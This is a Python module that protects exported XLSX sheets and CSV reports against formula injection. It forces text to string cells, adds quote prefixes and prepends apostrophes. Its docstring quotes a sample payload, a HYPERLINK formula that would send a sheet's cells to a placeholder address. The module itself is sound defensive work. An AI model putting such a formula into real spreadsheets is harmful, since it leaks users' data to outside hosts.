"""Cells of the spreadsheets the application writes: text stays text, never a formula.

Text typed at a counter or by the committee (a decision reason, a name, a heading of an
imported file) ends up in XLSX sheets and CSV reports that staff open in Excel or
LibreOffice. Text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
taken by those programs as a formula: ``=HYPERLINK("http://x/"&A1,"x")`` would send the
sheet's cells to any address (CWE-1236, "CSV/formula injection"). So:

- every XLSX is written through :func:`sheet_bytes` / :func:`put`: a ``str`` is stored as a
  string cell (never a formula or an error cell, whatever it starts with), and a text that
  looks like a formula also gets the ``quotePrefix`` style, so editing the cell in Excel
  or LibreOffice keeps it text; numbers, booleans and dates stay what they are;
- every CSV report passes its cells through :func:`csv_text`, which puts an apostrophe in
  front of such text (the usual guard; CSV has no cell types).

Characters XML cannot hold (control characters) are shown as U+FFFD instead of making the
whole export fail on one odd byte in a reason.
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence
from datetime import UTC, date, datetime, time
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MAX_CELL_CHARS = 32767  # Excel's limit; openpyxl would cut the text silently anyway


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def clean_text(text: str) -> str:
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)[:MAX_CELL_CHARS]


def put(cell: Any, value: Any) -> None:
    """Store ``value`` in an openpyxl cell: text as a string cell, numbers as numbers."""
    from openpyxl.cell.cell import ERROR_CODES

    if value is None or isinstance(value, bool | int | float | Decimal | date | time):
        if isinstance(value, datetime) and value.tzinfo is not None:
            value = value.astimezone(UTC).replace(tzinfo=None)  # XLSX has no time zones
        cell.value = value
        return
    text = clean_text(value if isinstance(value, str) else str(value))
    cell.value = text  # openpyxl guesses "f" for "=…" and "e" for "#N/A"…
    cell.data_type = "s"  # …and this says it is text, whatever it starts with
    if looks_like_formula(text) or text in ERROR_CODES:
        cell.quotePrefix = True


def row_of(ws: Any, values: Iterable[Any], font: Any = None) -> list[Any]:
    """The cells of one row of a write-only sheet, each filled by :func:`put`."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        c = WriteOnlyCell(ws)
        put(c, value)
        if font is not None:
            c.font = font
        cells.append(c)
    return cells


def sheet_bytes(title: str, headers: Sequence[str], rows: Iterable[Sequence[Any]], *,
                widths: Sequence[float] = (), right_to_left: bool = False) -> bytes:
    """A one-sheet workbook: bold headers on a frozen first row, then the rows."""
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title)
    ws.sheet_view.rightToLeft = right_to_left
    ws.freeze_panes = "A2"
    for i, width in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(i)].width = width
    ws.append(row_of(ws, headers, Font(bold=True)))
    for row in rows:
        ws.append(row_of(ws, row))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def csv_text(value: Any) -> Any:
    """A CSV cell that a spreadsheet program shows as the text it is."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value
